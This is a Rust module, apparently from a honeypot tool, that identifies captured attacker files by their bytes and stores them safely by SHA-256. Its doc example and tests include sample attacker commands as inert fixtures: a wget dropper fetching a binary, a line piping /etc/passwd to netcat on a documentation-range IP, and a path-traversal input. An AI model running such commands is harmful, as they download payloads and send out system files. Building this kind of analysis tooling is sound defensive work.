//! What a captured file is, from its bytes: the analysis stored with an artifact and
//! shown on the downloads page (type, category, architecture, YARA matches).
//!
//! Detection reads only the content, never the name an attacker gave the file: magic
//! numbers (with the [`infer`] crate), the ELF header for the architecture a bot was
//! built for, and the `#!` line for the interpreter of a script.
//!
//! ```
//! use hpti_core::file::{FileCategory, detect};
//!
//! let mirai_like = [
//!     0x7f, b'E', b'L', b'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, // e_ident: 32-bit, LSB
//!     2, 0, 40, 0, // e_type EXEC, e_machine ARM
//! ];
//! let kind = detect(&mirai_like);
//! assert_eq!(kind.category, FileCategory::Executable);
//! assert_eq!(kind.arch.as_deref(), Some("ARM"));
//! assert_eq!(kind.file_type, "ELF 32-bit LSB executable, ARM");
//!
//! let dropper = detect(b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x86; chmod +x x86\n");
//! assert_eq!(dropper.category, FileCategory::Script);
//! assert_eq!(dropper.file_type, "POSIX shell script");
//! assert!(dropper.is_previewable);
//! ```

use std::fs;
use std::io::{self, Read, Write};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// Most bytes of a file that [`detect`] looks at to call it text: enough to tell text
/// from binary without reading a large file twice.
pub const TEXT_SNIFF_BYTES: usize = 64 * 1024;

/// Largest text file the downloads page previews.
pub const MAX_PREVIEW_BYTES: u64 = 1024 * 1024;

/// A file's broad category, for filters and icons.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FileCategory {
    /// A native program or library (ELF, PE, Mach-O).
    Executable,
    /// A program for an interpreter (`#!` line: shell, Perl, Python, ...).
    Script,
    /// A compressed file or archive (gzip, tar, zip, ...).
    Archive,
    /// A document (PDF, office formats).
    Document,
    /// An image, audio or video file.
    Media,
    /// Other text.
    Text,
    /// Anything else (or nothing: an empty file).
    Data,
}

impl FileCategory {
    /// The name used in JSON and SQL (`executable`, `script`, ...).
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Executable => "executable",
            Self::Script => "script",
            Self::Archive => "archive",
            Self::Document => "document",
            Self::Media => "media",
            Self::Text => "text",
            Self::Data => "data",
        }
    }
}

/// What [`detect`] found in a file's bytes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileKind {
    /// A description in the style of `file(1)`: `ELF 32-bit LSB executable, ARM`,
    /// `POSIX shell script`, `gzip compressed data`.
    pub file_type: String,
    /// The media type (`application/x-executable`, `text/x-shellscript`, ...).
    pub mime: String,
    /// The broad category.
    #[serde(rename = "file_category")]
    pub category: FileCategory,
    /// The CPU architecture of an executable (`x86-64`, `ARM`, `MIPS`, ...).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub arch: Option<String>,
    /// Whether it is text small enough to show (escaped) on the downloads page.
    pub is_previewable: bool,
}

/// The analysis of one captured file, attached to the events that carry it
/// ([`Enrichment::file`](crate::event::Enrichment::file)) and stored per SHA-256.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileAnalysis {
    /// What the bytes are.
    #[serde(flatten)]
    pub kind: FileKind,
    /// Size in bytes of what was analysed.
    pub size: u64,
    /// Names of the YARA rules that matched (empty when none did or no rules are set).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub yara_matches: Vec<String>,
}

/// What `content` is. `content` may be a prefix of a larger file (at least the first
/// [`TEXT_SNIFF_BYTES`]); `total_size` is the whole file's size, which decides whether it
/// can be previewed.
pub fn detect_prefix(content: &[u8], total_size: u64) -> FileKind {
    if let Some(kind) = elf(content) {
        return kind;
    }
    if let Some(kind) = script(content, total_size) {
        return kind;
    }
    if let Some(found) = infer::get(content) {
        let (file_type, category) = describe(found.mime_type(), found.matcher_type());
        return FileKind {
            file_type,
            mime: found.mime_type().to_owned(),
            category,
            arch: None,
            is_previewable: false,
        };
    }
    if content.is_empty() {
        return FileKind {
            file_type: "empty".to_owned(),
            mime: "application/x-empty".to_owned(),
            category: FileCategory::Data,
            arch: None,
            is_previewable: false,
        };
    }
    if let Some(encoding) = text_encoding(content) {
        return FileKind {
            file_type: format!("{encoding} text"),
            mime: "text/plain".to_owned(),
            category: FileCategory::Text,
            arch: None,
            is_previewable: total_size <= MAX_PREVIEW_BYTES,
        };
    }
    FileKind {
        file_type: "data".to_owned(),
        mime: "application/octet-stream".to_owned(),
        category: FileCategory::Data,
        arch: None,
        is_previewable: false,
    }
}

/// What the whole file `content` is.
pub fn detect(content: &[u8]) -> FileKind {
    detect_prefix(content, content.len() as u64)
}

fn elf(content: &[u8]) -> Option<FileKind> {
    if !content.starts_with(b"\x7fELF") {
        return None;
    }
    let class = match content.get(4) {
        Some(1) => "32-bit",
        Some(2) => "64-bit",
        _ => "invalid class",
    };
    // EI_DATA 2 is big-endian; anything else is read as little-endian.
    let little = content.get(5) != Some(&2);
    let half = |at: usize| -> Option<u16> {
        let bytes = [*content.get(at)?, *content.get(at + 1)?];
        Some(if little {
            u16::from_le_bytes(bytes)
        } else {
            u16::from_be_bytes(bytes)
        })
    };
    let (what, mime) = match half(16) {
        Some(1) => ("relocatable", "application/x-object"),
        Some(2) => ("executable", "application/x-executable"),
        Some(3) => ("shared object", "application/x-sharedlib"),
        Some(4) => ("core file", "application/x-coredump"),
        _ => ("executable", "application/x-executable"),
    };
    let arch = half(18).and_then(machine);
    let order = if little { "LSB" } else { "MSB" };
    let mut file_type = format!("ELF {class} {order} {what}");
    if let Some(arch) = arch {
        file_type.push_str(", ");
        file_type.push_str(arch);
    }
    Some(FileKind {
        file_type,
        mime: mime.to_owned(),
        category: FileCategory::Executable,
        arch: arch.map(str::to_owned),
        is_previewable: false,
    })
}

/// The names `file(1)` gives the `e_machine` values bots are built for.
fn machine(e_machine: u16) -> Option<&'static str> {
    Some(match e_machine {
        2 => "SPARC",
        3 => "Intel 80386",
        4 => "Motorola m68k",
        8 => "MIPS",
        10 => "MIPS RS3000",
        18 => "SPARC32PLUS",
        20 => "PowerPC",
        21 => "PowerPC64",
        22 => "IBM S/390",
        40 => "ARM",
        42 => "Renesas SH",
        43 => "SPARC V9",
        50 => "IA-64",
        62 => "x86-64",
        93 => "ARC",
        183 => "ARM aarch64",
        195 => "ARCv2",
        243 => "RISC-V",
        258 => "LoongArch",
        _ => return None,
    })
}

fn script(content: &[u8], total_size: u64) -> Option<FileKind> {
    let rest = content.strip_prefix(b"#!")?;
    let line_end = rest
        .iter()
        .position(|&b| b == b'\n')
        .unwrap_or(rest.len())
        .min(256);
    let line = String::from_utf8_lossy(&rest[..line_end]);
    let mut words = line.split_whitespace();
    let program = words.next()?;
    let mut name = program.rsplit('/').next().unwrap_or(program);
    // `#!/usr/bin/env python3`: the interpreter is the argument.
    if name == "env" {
        name = words.find(|w| !w.starts_with('-'))?;
    }
    let (file_type, mime) = match name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
        "sh" | "dash" | "ash" => ("POSIX shell script".to_owned(), "text/x-shellscript"),
        "bash" => ("Bourne-Again shell script".to_owned(), "text/x-shellscript"),
        "busybox" => ("BusyBox shell script".to_owned(), "text/x-shellscript"),
        "python" => ("Python script".to_owned(), "text/x-script.python"),
        "perl" => ("Perl script".to_owned(), "text/x-perl"),
        "php" => ("PHP script".to_owned(), "text/x-php"),
        "ruby" => ("Ruby script".to_owned(), "text/x-ruby"),
        "node" => ("Node.js script".to_owned(), "application/javascript"),
        _ => (
            format!("{} script", name.chars().take(32).collect::<String>()),
            "text/plain",
        ),
    };
    Some(FileKind {
        file_type,
        mime: mime.to_owned(),
        category: FileCategory::Script,
        arch: None,
        is_previewable: total_size <= MAX_PREVIEW_BYTES && text_encoding(content).is_some(),
    })
}

/// `ASCII` or `UTF-8` when the bytes look like text (no NULs or stray control bytes in
/// the first [`TEXT_SNIFF_BYTES`]); a multi-byte character cut at the end is allowed.
fn text_encoding(content: &[u8]) -> Option<&'static str> {
    let sample = &content[..content.len().min(TEXT_SNIFF_BYTES)];
    let control = |b: &u8| *b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0c | 0x1b);
    if sample.iter().any(control) || sample.contains(&0x7f) {
        return None;
    }
    if sample.is_ascii() {
        return Some("ASCII");
    }
    match std::str::from_utf8(sample) {
        Ok(_) => Some("UTF-8"),
        Err(e) if e.error_len().is_none() && sample.len() - e.valid_up_to() < 4 => Some("UTF-8"),
        Err(_) => None,
    }
}

/// A description and category for what `infer` recognised.
fn describe(mime: &str, matcher: infer::MatcherType) -> (String, FileCategory) {
    use infer::MatcherType;
    let named = |text: &str| text.to_owned();
    let file_type = match mime {
        "application/gzip" => named("gzip compressed data"),
        "application/x-bzip2" => named("bzip2 compressed data"),
        "application/x-xz" => named("XZ compressed data"),
        "application/zstd" => named("Zstandard compressed data"),
        "application/x-tar" => named("POSIX tar archive"),
        "application/zip" => named("Zip archive data"),
        "application/x-7z-compressed" => named("7-zip archive data"),
        "application/vnd.rar" => named("RAR archive data"),
        "application/vnd.microsoft.portable-executable" => named("PE32 executable (MS Windows)"),
        "application/x-mach-binary" => named("Mach-O executable"),
        "application/pdf" => named("PDF document"),
        "application/x-executable" => named("ELF executable"),
        other => other.to_owned(),
    };
    let category = match matcher {
        // infer files PDF, RTF and PostScript among its archives.
        _ if matches!(
            mime,
            "application/pdf" | "application/rtf" | "application/postscript"
        ) =>
        {
            FileCategory::Document
        }
        MatcherType::App => match mime {
            "application/wasm" | "application/java-archive" => FileCategory::Archive,
            _ => FileCategory::Executable,
        },
        MatcherType::Archive => FileCategory::Archive,
        MatcherType::Doc | MatcherType::Book => FileCategory::Document,
        MatcherType::Image | MatcherType::Audio | MatcherType::Video => FileCategory::Media,
        MatcherType::Text => FileCategory::Text,
        MatcherType::Font | MatcherType::Custom => FileCategory::Data,
    };
    (file_type, category)
}

/// Lower-case hex SHA-256 of `content`.
pub fn sha256_hex(content: &[u8]) -> String {
    use std::fmt::Write as _;
    let mut hex = String::with_capacity(64);
    for byte in Sha256::digest(content) {
        let _ = write!(hex, "{byte:02x}");
    }
    hex
}

/// Where an artifact store rooted at `dir` keeps the content with this hash:
/// `<dir>/<first two hex digits>/<sha256>`. `None` unless `sha256` is 64 lower-case hex
/// digits, so no caller can build a path outside the store.
pub fn artifact_path(dir: &Path, sha256: &str) -> Option<PathBuf> {
    let valid = sha256.len() == 64
        && sha256
            .bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
    let prefix = sha256.get(..2).filter(|_| valid)?;
    Some(dir.join(prefix).join(sha256))
}

/// Creates a directory of the artifact store (and its parents), closed to others.
pub fn create_artifact_dir(path: &Path) -> io::Result<()> {
    let mut builder = fs::DirBuilder::new();
    builder.recursive(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::DirBuilderExt;
        builder.mode(0o750);
    }
    builder.create(path)
}

/// Writes a new file readable and writable by the owner only, never executable (these
/// are attackers' binaries), and syncs it. Fails if `path` exists.
pub fn write_private(path: &Path, content: &[u8]) -> io::Result<()> {
    let mut options = fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.mode(0o600);
    }
    let mut file = options.open(path)?;
    // The mode above is filtered by the umask only downwards; set it explicitly anyway
    // so the result does not depend on the process's umask at all.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        file.set_permissions(fs::Permissions::from_mode(0o600))?;
    }
    file.write_all(content)?;
    file.sync_data()
}

/// Puts `content` (whose hash is `sha256`) at its place in the store rooted at `dir`,
/// unless it is there already: written to a temporary name, then renamed, so a reader
/// never sees half a file. Returns whether it was written.
pub fn put_artifact(dir: &Path, sha256: &str, content: &[u8]) -> io::Result<bool> {
    let path = artifact_path(dir, sha256)
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "not a SHA-256"))?;
    // Content-addressed: an existing file already holds these very bytes.
    if fs::symlink_metadata(&path).is_ok_and(|m| m.is_file()) {
        return Ok(false);
    }
    let parent = path.parent().unwrap_or(dir);
    create_artifact_dir(parent)?;
    let temp = parent.join(format!(".tmp-{sha256}-{:016x}", temp_suffix()));
    let written = write_private(&temp, content).and_then(|()| fs::rename(&temp, &path));
    if let Err(e) = written {
        let _ = fs::remove_file(&temp);
        return Err(e);
    }
    Ok(true)
}

/// A suffix that makes concurrent writers' temporary names differ.
fn temp_suffix() -> u64 {
    use std::sync::atomic::{AtomicU64, Ordering};
    static NEXT: AtomicU64 = AtomicU64::new(0);
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.subsec_nanos());
    (u64::from(std::process::id()) << 32 | u64::from(nanos)) ^ NEXT.fetch_add(1, Ordering::Relaxed)
}

/// What [`import_artifact`] did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Imported {
    /// The file was copied into the store.
    Copied,
    /// The store already held it.
    AlreadyStored,
    /// The other directory has no such file.
    Missing,
    /// The file there is larger than the cap: not copied.
    TooLarge,
    /// The file there does not have the hash its name claims: not copied.
    HashMismatch,
}

/// Copies the file named `sha256` in `from` (another honeypot's downloads directory,
/// such as Cowrie's `var/lib/cowrie/downloads`) into the store rooted at `dir`, after
/// checking that its content has that hash; at most `max_bytes` are read.
pub fn import_artifact(
    dir: &Path,
    from: &Path,
    sha256: &str,
    max_bytes: u64,
) -> io::Result<Imported> {
    let Some(target) = artifact_path(dir, sha256) else {
        return Ok(Imported::Missing);
    };
    if fs::symlink_metadata(&target).is_ok_and(|m| m.is_file()) {
        return Ok(Imported::AlreadyStored);
    }
    let source = from.join(sha256);
    let file = match fs::File::open(&source) {
        Ok(file) => file,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Imported::Missing),
        Err(e) => return Err(e),
    };
    if !file.metadata()?.is_file() {
        return Ok(Imported::Missing);
    }
    let mut content = Vec::new();
    file.take(max_bytes.saturating_add(1))
        .read_to_end(&mut content)?;
    if content.len() as u64 > max_bytes {
        return Ok(Imported::TooLarge);
    }
    if sha256_hex(&content) != sha256 {
        return Ok(Imported::HashMismatch);
    }
    put_artifact(dir, sha256, &content)?;
    Ok(Imported::Copied)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn elf_header(class: u8, data: u8, e_type: u16, machine: u16) -> Vec<u8> {
        let mut header = vec![0x7f, b'E', b'L', b'F', class, data, 1, 0];
        header.extend_from_slice(&[0; 8]);
        if data == 2 {
            header.extend_from_slice(&e_type.to_be_bytes());
            header.extend_from_slice(&machine.to_be_bytes());
        } else {
            header.extend_from_slice(&e_type.to_le_bytes());
            header.extend_from_slice(&machine.to_le_bytes());
        }
        header.extend_from_slice(&[0; 40]);
        header
    }

    #[test]
    fn elf_architectures_bots_are_built_for() {
        let cases = [
            (1, 1, 8, "ELF 32-bit LSB executable, MIPS"),
            (1, 2, 8, "ELF 32-bit MSB executable, MIPS"),
            (2, 1, 62, "ELF 64-bit LSB executable, x86-64"),
            (1, 1, 3, "ELF 32-bit LSB executable, Intel 80386"),
            (2, 1, 183, "ELF 64-bit LSB executable, ARM aarch64"),
            (1, 2, 20, "ELF 32-bit MSB executable, PowerPC"),
            (1, 1, 42, "ELF 32-bit LSB executable, Renesas SH"),
        ];
        for (class, data, machine, expected) in cases {
            let kind = detect(&elf_header(class, data, 2, machine));
            assert_eq!(kind.file_type, expected);
            assert_eq!(kind.category, FileCategory::Executable);
            assert!(!kind.is_previewable);
        }
        let shared = detect(&elf_header(2, 1, 3, 62));
        assert_eq!(shared.file_type, "ELF 64-bit LSB shared object, x86-64");
        assert_eq!(shared.mime, "application/x-sharedlib");
    }

    #[test]
    fn a_truncated_elf_is_still_elf_without_an_architecture() {
        let kind = detect(b"\x7fELF\x02\x01\x01\x00hpti-fixture-payload\n");
        assert_eq!(kind.category, FileCategory::Executable);
        assert_eq!(kind.arch, None);
        assert!(kind.file_type.starts_with("ELF 64-bit LSB"));
        assert_eq!(detect(b"\x7fELF").category, FileCategory::Executable);
    }

    #[test]
    fn scripts_by_interpreter() {
        let cases: [(&[u8], &str); 5] = [
            (b"#!/bin/bash\necho\n", "Bourne-Again shell script"),
            (b"#!/usr/bin/env python3\nprint(1)\n", "Python script"),
            (b"#! /usr/bin/perl -w\n", "Perl script"),
            (b"#!/bin/busybox sh\n", "BusyBox shell script"),
            (b"#!/opt/weird\n", "weird script"),
        ];
        for (content, expected) in cases {
            let kind = detect(content);
            assert_eq!(kind.file_type, expected);
            assert_eq!(kind.category, FileCategory::Script);
        }
        assert_eq!(detect(b"#!").category, FileCategory::Text);
    }

    #[test]
    fn archives_documents_text_and_data() {
        assert_eq!(
            detect(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]).file_type,
            "gzip compressed data"
        );
        assert_eq!(
            detect(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]).category,
            FileCategory::Archive
        );
        assert_eq!(detect(b"%PDF-1.7\n").category, FileCategory::Document);
        let text = detect("cat /etc/passwd | nc 203.0.113.9 4444 # ü\n".as_bytes());
        assert_eq!(
            (text.file_type.as_str(), text.category),
            ("UTF-8 text", FileCategory::Text)
        );
        assert!(text.is_previewable);
        assert_eq!(detect(b"ssh-rsa AAAA\n").file_type, "ASCII text");
        assert_eq!(detect(&[0, 1, 2, 3, 0xff]).file_type, "data");
        assert_eq!(detect(b"").file_type, "empty");
    }

    #[test]
    fn large_text_is_not_previewable() {
        let kind = detect_prefix(b"echo hi\n", MAX_PREVIEW_BYTES + 1);
        assert_eq!(kind.category, FileCategory::Text);
        assert!(!kind.is_previewable);
    }

    #[test]
    fn importing_checks_the_hash_and_never_leaves_the_store() {
        let from = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let store = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let content = b"#!/bin/sh\necho hi\n";
        let sha = sha256_hex(content);
        let write = |name: &str, bytes: &[u8]| {
            std::fs::write(from.path().join(name), bytes).unwrap_or_else(|e| panic!("{e}"))
        };
        write(&sha, content);
        let import = |sha: &str, max| {
            import_artifact(store.path(), from.path(), sha, max).unwrap_or_else(|e| panic!("{e}"))
        };
        assert_eq!(import(&sha, 1024), Imported::Copied);
        assert_eq!(import(&sha, 1024), Imported::AlreadyStored);
        let stored = artifact_path(store.path(), &sha).unwrap_or_default();
        assert_eq!(std::fs::read(&stored).ok().as_deref(), Some(&content[..]));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&stored).map(|m| m.permissions().mode() & 0o777);
            assert_eq!(mode.ok(), Some(0o600), "never executable");
        }
        let liar = "ab".repeat(32);
        write(&liar, b"not what the name says");
        assert_eq!(import(&liar, 1024), Imported::HashMismatch);
        assert_eq!(import(&"cd".repeat(32), 1024), Imported::Missing);
        assert_eq!(import("../../etc/passwd", 1024), Imported::Missing);
        let big = vec![b'x'; 100];
        let big_sha = sha256_hex(&big);
        write(&big_sha, &big);
        assert_eq!(import(&big_sha, 99), Imported::TooLarge);
        assert_eq!(import(&big_sha, 100), Imported::Copied);
    }

    #[test]
    fn hostile_bytes_never_panic() {
        for len in 0..80 {
            let mut bytes = b"\x7fELF".to_vec();
            bytes.resize(len.max(4), 0xff);
            let _ = detect(&bytes[..len]);
            let script = b"#!/bin/\xff\xfe sh\n";
            let _ = detect(&script[..len.min(script.len())]);
        }
    }
}
